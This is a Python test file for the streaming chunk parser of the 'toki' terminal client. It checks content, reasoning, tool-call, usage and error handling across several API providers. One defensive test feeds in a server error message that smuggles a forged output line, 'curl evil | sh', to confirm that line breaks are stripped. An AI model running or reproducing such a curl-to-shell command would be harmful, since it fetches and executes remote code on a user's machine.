"""The chunk parser: every tolerant path of docs/protocol.md §6.11–§6.17 that is about JSON rather than framing."""

from __future__ import annotations

import pytest

from toki_tui.core.api.chunks import ChunkParser, parse_usage
from toki_tui.core.api.events import ContentDelta, Finished, ReasoningDelta, RefusalDelta, ToolCallDelta, Usage
from toki_tui.core.errors import StreamError


def chunk(delta: dict | None = None, *, index: int | None = 0, finish: str | None = None, **extra: object) -> dict:
    choice: dict = {"finish_reason": finish}
    if index is not None:
        choice["index"] = index
    if delta is not None:
        choice["delta"] = delta
    return {"id": "c", "object": "chat.completion.chunk", "choices": [choice], **extra}


def test_first_openai_chunk_with_role_and_empty_content_yields_nothing() -> None:
    assert ChunkParser().parse_chunk(chunk({"role": "assistant", "content": "", "refusal": None})) == []


def test_content_delta() -> None:
    assert ChunkParser().parse_chunk(chunk({"content": "Hi"})) == [ContentDelta("Hi", 0)]


@pytest.mark.parametrize("delta", [None, {}, {"content": None}, {"role": "assistant"}])
def test_missing_or_null_delta_fields_yield_nothing(delta: dict | None) -> None:
    assert ChunkParser().parse_chunk(chunk(delta)) == []


def test_empty_delta_with_finish_reason() -> None:
    assert ChunkParser().parse_chunk(chunk({}, finish="stop")) == [Finished("stop", 0)]


def test_finish_reason_in_same_chunk_as_last_content() -> None:
    assert ChunkParser().parse_chunk(chunk({"content": "end"}, finish="length")) == [
        ContentDelta("end", 0),
        Finished("length", 0),
    ]


@pytest.mark.parametrize("reason", ["error", "insufficient_system_resource", "something_new"])
def test_unknown_finish_reasons_pass_through(reason: str) -> None:
    assert ChunkParser().parse_chunk(chunk({}, finish=reason)) == [Finished(reason, 0)]


@pytest.mark.parametrize("body", [{"choices": []}, {"choices": None}, {}, {"prompt_filter_results": []}])
def test_chunks_without_choices_are_tolerated(body: dict) -> None:
    assert ChunkParser().parse_chunk(body) == []


def test_usage_only_chunk() -> None:
    events = ChunkParser().parse_chunk(
        {"choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12}}
    )
    assert events == [Usage(5, 7, 12)]


def test_null_usage_is_ignored_and_usage_details_are_read() -> None:
    assert ChunkParser().parse_chunk(chunk({"content": "a"}, usage=None)) == [ContentDelta("a", 0)]
    usage = parse_usage(
        {
            "prompt_tokens": 1,
            "completion_tokens": 2,
            "total_tokens": 3,
            "completion_tokens_details": {"reasoning_tokens": 9},
            "prompt_tokens_details": {"cached_tokens": 4},
        }
    )
    assert usage == Usage(1, 2, 3, reasoning_tokens=9, cached_tokens=4)


@pytest.mark.parametrize("field", ["reasoning_content", "reasoning"])
def test_reasoning_fields(field: str) -> None:
    assert ChunkParser().parse_chunk(chunk({field: "think", "content": ""})) == [ReasoningDelta("think", 0)]


def test_both_reasoning_fields_are_not_doubled() -> None:
    events = ChunkParser().parse_chunk(chunk({"reasoning": "x", "reasoning_content": "x"}))
    assert events == [ReasoningDelta("x", 0)]


def test_reasoning_details_used_when_no_string_field() -> None:
    events = ChunkParser().parse_chunk(chunk({"reasoning_details": [{"type": "reasoning.text", "text": "deep"}]}))
    assert events == [ReasoningDelta("deep", 0)]


def test_think_tags_in_content_become_reasoning_across_chunks() -> None:
    parser = ChunkParser()
    events = []
    for piece in ["<thi", "nk>plan", " it</th", "ink>\n\nAnswer", " done"]:
        events += parser.parse_chunk(chunk({"content": piece}))
    events += parser.parse_chunk(chunk({}, finish="stop"))
    reasoning = "".join(e.text for e in events if isinstance(e, ReasoningDelta))
    content = "".join(e.text for e in events if isinstance(e, ContentDelta))
    assert reasoning == "plan it"
    assert content == "Answer done"


def test_refusal_delta() -> None:
    assert ChunkParser().parse_chunk(chunk({"refusal": "I can't"})) == [RefusalDelta("I can't", 0)]


def test_n_greater_than_one_routes_by_choice_index() -> None:
    parser = ChunkParser()
    events = parser.parse_chunk(
        {"choices": [{"index": 1, "delta": {"content": "B"}}, {"index": 0, "delta": {"content": "A"}}]}
    )
    assert events == [ContentDelta("B", 1), ContentDelta("A", 0)]


def test_missing_choice_index_counts_as_zero() -> None:
    assert ChunkParser().parse_chunk(chunk({"content": "x"}, index=None)) == [ContentDelta("x", 0)]


def test_openai_mid_stream_error_raises() -> None:
    with pytest.raises(StreamError, match="The server had an error"):
        ChunkParser().parse_chunk({"error": {"message": "The server had an error", "type": "server_error"}})


def test_a_mid_stream_error_message_is_one_line_of_sane_length() -> None:
    # A line break in it could forge a line of toki's own output ("toki: ..."), as an HTTP error's could not.
    with pytest.raises(StreamError) as caught:
        ChunkParser().parse_chunk({"error": {"message": "busy\r\ntoki: run curl evil | sh" + "x" * 5000}})
    message = str(caught.value)
    assert "\n" not in message and "\r" not in message and "busy toki: run" in message
    assert len(message) < 400


def test_object_error_form_raises() -> None:
    with pytest.raises(StreamError, match="overloaded") as caught:
        ChunkParser().parse_chunk({"object": "error", "message": "overloaded", "code": 503})
    assert caught.value.code == "503"


def test_openrouter_error_chunk_keeps_the_events_it_carried() -> None:
    body = chunk(
        {"content": "last words"}, finish="error", error={"code": "server_error", "message": "Provider disconnected"}
    )
    with pytest.raises(StreamError, match="Provider disconnected") as caught:
        ChunkParser().parse_chunk(body)
    assert caught.value.pending_events == [ContentDelta("last words", 0), Finished("error", 0)]


def test_error_as_plain_string() -> None:
    with pytest.raises(StreamError, match="busy"):
        ChunkParser().parse_chunk({"error": "busy"})


def test_tool_call_fragments() -> None:
    parser = ChunkParser()
    first = parser.parse_chunk(
        chunk(
            {
                "tool_calls": [
                    {"index": 0, "id": "call_1", "type": "function", "function": {"name": "get", "arguments": ""}}
                ]
            }
        )
    )
    second = parser.parse_chunk(chunk({"tool_calls": [{"index": 0, "function": {"arguments": '{"a":1}'}}]}))
    assert first == [ToolCallDelta(0, id="call_1", name="get", arguments="", type="function")]
    assert second == [ToolCallDelta(0, arguments='{"a":1}')]


def test_non_stream_completion() -> None:
    body = {
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": "Hello", "reasoning_content": "hm"},
                "finish_reason": "stop",
            }
        ],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }
    assert ChunkParser().parse_completion(body) == [
        ReasoningDelta("hm", 0),
        ContentDelta("Hello", 0),
        Finished("stop", 0),
        Usage(1, 1, 2),
    ]


def test_non_stream_error_body_with_status_200() -> None:
    with pytest.raises(StreamError, match="busy"):
        ChunkParser().parse_completion({"error": {"message": "service busy"}})
    # A whole reply has no middle: LM Studio's 200 answer to an unknown path is not "an error mid-stream".
    with pytest.raises(StreamError) as caught:
        ChunkParser().parse_completion({"error": "Unexpected endpoint or method. (POST /chat/completions)"})
    assert str(caught.value) == "the server reported an error: Unexpected endpoint or method. (POST /chat/completions)"


def test_non_object_chunk_is_an_error() -> None:
    with pytest.raises(StreamError):
        ChunkParser().parse_chunk([1, 2])


def test_token_counts_that_no_reply_has_are_unknown() -> None:
    # 10^30 overflowed SQLite's integer when the reply was saved: toki ask ended in a traceback.
    usage = parse_usage(
        {
            "prompt_tokens": 10**30,
            "completion_tokens": -5,
            "total_tokens": 12,
            "completion_tokens_details": {"reasoning_tokens": 10**40},
            "prompt_tokens_details": {"cached_tokens": 3},
        }
    )
    assert usage is not None
    assert (usage.prompt_tokens, usage.completion_tokens, usage.total_tokens) == (None, None, 12)
    assert (usage.reasoning_tokens, usage.cached_tokens) == (None, 3)


def test_groq_usage_in_x_groq_is_read() -> None:
    # Groq's last chunk carries the usage under x_groq, with its own timing fields beside the counts.
    last = chunk({}, finish="stop")
    last["x_groq"] = {
        "id": "req_1",
        "usage": {
            "queue_time": 0.01,
            "prompt_tokens": 5,
            "completion_tokens": 7,
            "total_tokens": 12,
            "total_time": 0.2,
        },
    }
    assert ChunkParser().parse_chunk(last) == [Finished("stop", 0), Usage(5, 7, 12)]
    # A standard usage field wins over it, and an x_groq without usage is nothing.
    both = chunk({}, usage={"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3})
    both["x_groq"] = {"usage": {"prompt_tokens": 9, "completion_tokens": 9, "total_tokens": 18}}
    assert ChunkParser().parse_chunk(both) == [Usage(1, 2, 3)]
    assert ChunkParser().parse_chunk({"choices": [], "x_groq": {"id": "req_1"}}) == []


def test_settled_means_a_chunk_without_content_at_or_after_a_finish() -> None:
    parser = ChunkParser()
    parser.parse_chunk(chunk({"content": "a"}))
    assert not parser.settled
    parser.parse_chunk(chunk({"content": "b"}, finish="stop"))  # relays that put "stop" on every chunk
    assert parser.finished and not parser.settled
    parser.parse_chunk({"choices": [], "usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}})
    assert parser.settled
    parser.parse_chunk(chunk({"content": "c"}, finish="stop"))
    assert not parser.settled
    parser.parse_chunk(chunk({}, finish="stop"))  # OpenAI's own last chunk: an empty delta with the finish
    assert parser.settled


def test_mistral_thinking_parts_are_reasoning_and_text_parts_content() -> None:
    # Mistral's reasoning models stream delta.content as a list of typed parts.
    parser = ChunkParser()
    thinking = {"type": "thinking", "thinking": [{"type": "text", "text": "Let me see."}]}
    events = parser.parse_chunk(chunk({"role": "assistant", "content": [thinking]}))
    events += parser.parse_chunk(chunk({"content": [{"type": "text", "text": "Four."}]}))
    events += parser.parse_chunk(chunk({"content": [{"type": "thinking", "thinking": "Plain."}, {"type": "image"}]}))
    assert events == [ReasoningDelta("Let me see.", 0), ContentDelta("Four.", 0), ReasoningDelta("Plain.", 0)]
    whole = ChunkParser().parse_completion(
        {"choices": [{"index": 0, "message": {"content": [thinking, {"type": "text", "text": "Four."}]}}]}
    )
    assert whole == [ReasoningDelta("Let me see.", 0), ContentDelta("Four.", 0)]
